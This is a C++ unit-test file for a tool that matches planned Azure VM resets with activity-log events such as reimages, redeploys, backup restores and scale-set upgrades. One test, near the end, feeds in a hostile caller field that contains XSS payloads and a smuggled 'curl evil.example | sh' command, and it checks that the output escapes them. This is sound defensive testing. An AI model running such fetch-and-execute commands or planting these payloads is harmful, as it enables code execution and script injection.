// Issue 23, "cause, from outside": `plan resets --activity-log` reads what `az monitor
// activity-log list` prints (tests/fixtures/activity_log/, the real EventData shape) and marks
// each planned reset explained (the Succeeded operation on that resource, its scale set or its
// Backup item, within the window before the loss) or unexplained.

#include <gtest/gtest.h>

#include "agent/plan/activity_log.h"
#include "agent/plan/json_cursor.h"
#include "agent/plan/reset_plan_html.h"
#include "agent/plan/resource_text.h"
#include "tests/support/test_support.h"

namespace latchwatch::plan {
namespace {

const std::string kSub = "6f1c2d3e-4a5b-4c6d-8e7f-0a1b2c3d4e5f";
const std::string kLoss = "2026-11-20T10:00:00Z";
constexpr std::int64_t kDay = 86400;

std::string vm(const std::string& name) {
  // The reports' spelling; the log has "resourcegroups/RG-WEB": ids compare case-insensitively.
  return "/subscriptions/" + kSub +
         "/resourceGroups/rg-web/providers/Microsoft.Compute/"
         "virtualMachines/" +
         name;
}

std::string instance(const std::string& set, int n) {
  return "/subscriptions/" + kSub +
         "/resourceGroups/rg-pool/providers/Microsoft.Compute/virtualMachineScaleSets/" + set +
         "/virtualMachines/" + std::to_string(n);
}

std::string fixture_text() {
  return testing::read_file(std::string(LATCHWATCH_FIXTURES_DIR) +
                            "/activity_log/activity-log.json");
}

ActivityLog fixture_log() {
  ActivityLog log;
  std::vector<std::string> errors;
  EXPECT_TRUE(read_activity_log("activity-log.json", fixture_text(), log, errors));
  EXPECT_TRUE(errors.empty()) << errors.front();
  return log;
}

PlannedReset planned(const std::string& id, const std::string& at = kLoss) {
  PlannedReset r;
  r.resource_id = id;
  auto split = split_scale_set_instance(id);
  r.scale_set_id = split.scale_set_id;
  r.instance_id = split.instance_id;
  r.verdict_code = "key_lost";
  r.generated_at = r.first_reported_at = at;
  r.first_reported_ms = *parse_iso8601_utc_ms(at);
  return r;
}

ResetPlan plan_of(const std::vector<std::string>& ids, const std::string& at = kLoss) {
  ResetPlan plan;
  for (const auto& id : ids) {
    auto r = planned(id, at);
    if (r.scale_set_id.empty()) {
      plan.vms.push_back(r);
    } else {
      if (plan.scale_sets.empty() || plan.scale_sets.back().scale_set_id != r.scale_set_id)
        plan.scale_sets.push_back({r.scale_set_id, {}});
      plan.scale_sets.back().instances.push_back(r);
    }
  }
  return plan;
}

ActivityCause cause_of(const std::string& id, std::int64_t window = kDay,
                       const std::string& at = kLoss, const ActivityLog& log = fixture_log()) {
  ResetPlan plan = plan_of({id}, at);
  explain_resets(plan, log, window);
  EXPECT_TRUE(plan.activity_checked);
  return plan.vms.empty() ? *plan.scale_sets[0].instances[0].cause : *plan.vms[0].cause;
}

TEST(ActivityLog, TheFixtureReadsWhole) {
  ActivityLog log = fixture_log();
  EXPECT_EQ(log.events_read, 35);
  EXPECT_EQ(log.malformed, 0);
  EXPECT_EQ(log.other_events, 2);   // the network security group's Started and Succeeded
  EXPECT_GT(log.not_succeeded, 0);  // Accepted rows and the Failed reimage
}

TEST(ActivityLog, AReimageExplainsTheLossWithItsSucceededEvent) {
  auto c = cause_of(vm("vm-reimaged"));
  ASSERT_TRUE(c.explained) << c.note;
  EXPECT_EQ(c.kind, "reimage");
  EXPECT_EQ(c.operation, "Microsoft.Compute/virtualMachines/reimage/action");
  EXPECT_EQ(c.time, "2026-11-20T08:01:40.7654321Z");  // not the Started or Accepted row
  EXPECT_EQ(c.caller, "alice@contoso.example");
  EXPECT_EQ(c.before_loss_seconds, 3600 + 58 * 60 + 19);
  EXPECT_FALSE(c.correlation_id.empty());
  EXPECT_NE(c.origin.find("activity-log.json["), std::string::npos);
}

TEST(ActivityLog, ARedeployExplainsTheLoss) {
  auto c = cause_of(vm("vm-redeployed"));
  ASSERT_TRUE(c.explained) << c.note;
  EXPECT_EQ(c.kind, "redeploy");
  EXPECT_EQ(c.operation, "Microsoft.Compute/virtualMachines/redeploy/action");
  EXPECT_EQ(c.caller, "bob@contoso.example");
}

TEST(ActivityLog, AMaintenanceRedeployExplainsTheLoss) {
  auto c = cause_of(vm("vm-maintained"));
  ASSERT_TRUE(c.explained) << c.note;
  EXPECT_EQ(c.kind, "maintenance");
  EXPECT_EQ(c.operation, "Microsoft.Compute/virtualMachines/performMaintenance/action");
}

TEST(ActivityLog, AModelWriteWhoseRequestSetsTheOsDiskIsAnOsDiskChange) {
  auto c = cause_of(vm("vm-swapped"));
  ASSERT_TRUE(c.explained) << c.note;
  EXPECT_EQ(c.kind, "os_disk");
  EXPECT_EQ(c.operation, "Microsoft.Compute/virtualMachines/write");
  EXPECT_EQ(c.caller, "carol@contoso.example");
  EXPECT_EQ(c.time, "2026-11-20T09:31:12.8000000Z");  // the Succeeded row; the body was on Started
}

TEST(ActivityLog, AModelWriteThatOnlyTagsExplainsNothing) {
  auto c = cause_of(vm("vm-tagged"));
  EXPECT_FALSE(c.explained);
  EXPECT_NE(c.note.find("look closer"), std::string::npos);
}

TEST(ActivityLog, AnAzureBackupRestoreOfTheVmsProtectedItemExplainsTheLoss) {
  auto c = cause_of(vm("vm-restored"));
  ASSERT_TRUE(c.explained) << c.note;
  EXPECT_EQ(c.kind, "restore");
  EXPECT_EQ(c.operation,
            "Microsoft.RecoveryServices/Vaults/backupFabrics/protectionContainers/protectedItems/"
            "recoveryPoints/restore/action");
  EXPECT_EQ(c.caller, "dave@contoso.example");
  EXPECT_NE(c.resource_id.find("protectedItems/VM;iaasvmcontainerv2;rg-web;vm-restored"),
            std::string::npos);
  // Same name in another group: not this VM's backup.
  std::string other_group = vm("vm-restored");
  other_group.replace(other_group.find("rg-web"), 6, "rg-db");
  EXPECT_FALSE(cause_of(other_group).explained);
}

TEST(ActivityLog, ARestoreOfSomethingOtherThanAVmIsNeitherACauseNorAnError) {
  auto events = nlohmann::json::parse(fixture_text());
  nlohmann::json restore;
  for (const auto& e : events)
    if (e["resourceId"].get<std::string>().find("protectedItems") != std::string::npos &&
        e["status"]["value"] == "Succeeded")
      restore = e;
  ASSERT_FALSE(restore.is_null());
  std::string id = restore["resourceId"];
  id.replace(id.find("VM;iaasvmcontainerv2;rg-web;vm-restored/recoveryPoints"), 39,
             "AzureFileShare;share-web");
  restore["resourceId"] = id;
  ActivityLog log;
  std::vector<std::string> errors;
  ASSERT_TRUE(read_activity_log("log.json", nlohmann::json::array({restore}).dump(), log, errors));
  EXPECT_TRUE(errors.empty()) << errors.front();
  EXPECT_EQ(log.other_events, 1);
  EXPECT_TRUE(log.operations.empty());
}

TEST(ActivityLog, AUniformInstanceReimageExplainsThatInstanceOnly) {
  auto c = cause_of(instance("pool-a", 3));
  ASSERT_TRUE(c.explained) << c.note;
  EXPECT_EQ(c.kind, "reimage");
  EXPECT_EQ(c.operation,
            "Microsoft.Compute/virtualMachineScaleSets/virtualMachines/reimage/action");
  EXPECT_TRUE(c.note.empty());
  EXPECT_FALSE(cause_of(instance("pool-a", 5)).explained);
}

TEST(ActivityLog, AUniformInstanceReimageOfAllDisksExplainsTheLoss) {
  auto c = cause_of(instance("pool-a", 4));
  ASSERT_TRUE(c.explained) << c.note;
  EXPECT_EQ(c.kind, "reimage");
  EXPECT_EQ(c.operation,
            "Microsoft.Compute/virtualMachineScaleSets/virtualMachines/reimageall/action");
}

TEST(ActivityLog, AScaleSetWideOsUpgradeExplainsItsInstancesWithANote) {
  auto c = cause_of(instance("pool-b", 0));
  ASSERT_TRUE(c.explained) << c.note;
  EXPECT_EQ(c.kind, "upgrade");
  EXPECT_EQ(c.operation, "Microsoft.Compute/virtualMachineScaleSets/osRollingUpgrade/action");
  EXPECT_NE(c.note.find("whole scale set"), std::string::npos);
  // A standalone VM that happens to share the scale set's name is not one of its instances.
  EXPECT_FALSE(cause_of(vm("pool-b")).explained);
}

TEST(ActivityLog, AnOperationOutsideTheWindowLeavesTheLossUnexplained) {
  auto c = cause_of(vm("vm-old"));  // reimaged 3 days before, default window 24 h
  EXPECT_FALSE(c.explained);
  EXPECT_NE(c.note.find("in the 24 h before"), std::string::npos) << c.note;
  EXPECT_TRUE(cause_of(vm("vm-old"), 4 * kDay).explained);
}

TEST(ActivityLog, AnOperationAfterTheLossExplainsNothing) {
  // The reimage finished at 08:01:40; a loss first reported at 07:00 came before it.
  EXPECT_FALSE(cause_of(vm("vm-reimaged"), kDay, "2026-11-20T07:00:00Z").explained);
  // Within the clock-skew tolerance (10 min) it still counts.
  EXPECT_TRUE(cause_of(vm("vm-reimaged"), kDay, "2026-11-20T07:55:00Z").explained);
}

TEST(ActivityLog, AnOperationOnAnotherResourceLeavesTheLossUnexplained) {
  // vm-other was reimaged at 09:03; its neighbour's loss is not explained by it.
  EXPECT_FALSE(cause_of(vm("vm-neighbour")).explained);
  EXPECT_FALSE(cause_of(vm("vm-othe")).explained);  // no prefix match
}

TEST(ActivityLog, AFailedOperationLeavesTheLossUnexplained) {
  auto c = cause_of(vm("vm-failed"));
  EXPECT_FALSE(c.explained);
}

TEST(ActivityLog, ResourceIdsMatchCaseInsensitively) {
  std::string id = vm("vm-reimaged");
  for (auto& ch : id) ch = static_cast<char>(std::toupper(static_cast<unsigned char>(ch)));
  EXPECT_TRUE(cause_of(id).explained);
}

TEST(ActivityLog, AnUnexplainedLossNeedsAPersonAndIsCounted) {
  ResetPlan plan = plan_of({vm("vm-reimaged"), vm("vm-neighbour")});
  EXPECT_FALSE(plan.needs_attention());
  explain_resets(plan, fixture_log(), kDay);
  EXPECT_EQ(plan.unexplained_count(), 1u);
  EXPECT_TRUE(plan.needs_attention());
  ResetPlan explained = plan_of({vm("vm-reimaged")});
  explain_resets(explained, fixture_log(), kDay);
  EXPECT_FALSE(explained.needs_attention());
}

TEST(ActivityLog, TheRestPageShapeReadsToo) {
  auto events = nlohmann::json::parse(fixture_text());
  nlohmann::json page = {{"value", events}, {"nextLink", nullptr}};
  ActivityLog log;
  std::vector<std::string> errors;
  ASSERT_TRUE(read_activity_log("page.json", page.dump(), log, errors));
  EXPECT_EQ(log.events_read, 35);
  EXPECT_TRUE(cause_of(vm("vm-swapped"), kDay, kLoss, log).explained);
}

TEST(ActivityLog, AFileThatIsNotAnExportIsRefusedWithAClearError) {
  for (const auto& [text, expected] : std::vector<std::pair<std::string, std::string>>{
           {"not json", "bad.json: not JSON"},
           {"{\"count\": 3}", "bad.json: not an activity-log export: expected the JSON array"},
           {"\"[]\"", "found a string"},
           {std::string(100, '[') + std::string(100, ']'), "nested deeper than"}}) {
    ActivityLog log;
    std::vector<std::string> errors;
    EXPECT_FALSE(read_activity_log("bad.json", text, log, errors)) << text;
    ASSERT_EQ(errors.size(), 1u);
    EXPECT_NE(errors[0].find(expected), std::string::npos) << errors[0];
  }
}

TEST(ActivityLog, MalformedEventsAreErrorsNamingTheFieldAndTheRestIsRead) {
  auto events = nlohmann::json::parse(fixture_text());
  nlohmann::json reimage;
  for (const auto& e : events)
    if (e["resourceId"].get<std::string>().find("vm-reimaged") != std::string::npos &&
        e["status"]["value"] == "Succeeded")
      reimage = e;
  ASSERT_FALSE(reimage.is_null());
  nlohmann::json bad_time = reimage, no_status = reimage, bad_caller = reimage;
  bad_time["eventTimestamp"] = "yesterday";
  no_status.erase("status");
  bad_caller["caller"] = 7;
  nlohmann::json file = {42, bad_time, no_status, bad_caller, reimage};
  ActivityLog log;
  std::vector<std::string> errors;
  ASSERT_TRUE(read_activity_log("log.json", file.dump(), log, errors));
  EXPECT_EQ(log.malformed, 4);
  EXPECT_EQ(log.events_read, 5);
  auto has = [&](const std::string& text) {
    for (const auto& e : errors)
      if (e.find(text) != std::string::npos) return true;
    return false;
  };
  EXPECT_TRUE(has("log.json: [0]: expected an object, found a number"));
  EXPECT_TRUE(has("log.json: [1].eventTimestamp: not an ISO 8601 UTC time"));
  EXPECT_TRUE(has("log.json: [2].status.value: missing"));
  EXPECT_TRUE(has("log.json: [3].caller: expected a string, found a number"));
  EXPECT_TRUE(cause_of(vm("vm-reimaged"), kDay, kLoss, log).explained);  // the good one
}

TEST(ActivityLog, AHostileCallerIsEscapedInTheHtmlAndTheTextAndReachesNoCommand) {
  auto events = nlohmann::json::parse(fixture_text());
  const std::string hostile =
      "<script>alert(1)</script>\"'&<img src=x onerror=alert(2)>\n    $ curl evil.example | sh";
  for (auto& e : events) e["caller"] = hostile;
  ActivityLog log;
  std::vector<std::string> errors;
  ASSERT_TRUE(read_activity_log("log.json", events.dump(), log, errors));
  ResetPlan plan = plan_of({vm("vm-reimaged")});
  plan.vms[0].remedy.az_command = "az rest --method patch --url 'X'";
  explain_resets(plan, log, kDay);
  ASSERT_TRUE(plan.vms[0].cause->explained);

  std::string html = reset_plan_html(plan, nullptr, nullptr);
  EXPECT_EQ(html.find("<script"), std::string::npos);
  EXPECT_EQ(html.find("<img"), std::string::npos);
  EXPECT_NE(html.find("&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&amp;&lt;img"),
            std::string::npos);
  EXPECT_NE(html.find("class=\"cause explained\""), std::string::npos);

  std::string text = reset_plan_text(plan);
  std::size_t commands = 0;
  for (std::size_t at = 0; (at = text.find("\n    $ ", at)) != std::string::npos; ++at) {
    ++commands;
    EXPECT_EQ(text.compare(at, 22, "\n    $ az rest --metho"), 0) << text.substr(at, 60);
  }
  EXPECT_EQ(commands, 1u) << text;
  EXPECT_NE(text.find("explained: reimage"), std::string::npos) << text;
  EXPECT_NE(text.find("\\n    $ curl"), std::string::npos) << text;  // escaped, on the line

  auto doc = reset_plan_document(plan);
  EXPECT_EQ(doc["vms"][0]["activity_cause"]["caller"].get<std::string>().substr(0, 8), "<script>");
  EXPECT_EQ(doc["vms"][0]["remedy"].dump().find("curl"), std::string::npos);
  EXPECT_EQ(doc["vms"][0]["reset_ticket"].dump().find("curl"), std::string::npos);
}

TEST(ActivityLog, TheWindowTakesMinutesHoursAndDaysUpToNinetyDays) {
  EXPECT_EQ(parse_activity_window("24h"), 24 * 3600);
  EXPECT_EQ(parse_activity_window("90m"), 90 * 60);
  EXPECT_EQ(parse_activity_window("7d"), 7 * kDay);
  EXPECT_EQ(parse_activity_window("90d"), 90 * kDay);
  for (const char* bad : {"", "h", "0h", "91d", "24", "-1h", "1.5h", "24H", "9999999d"})
    EXPECT_FALSE(parse_activity_window(bad)) << bad;
}

}  // namespace
}  // namespace latchwatch::plan
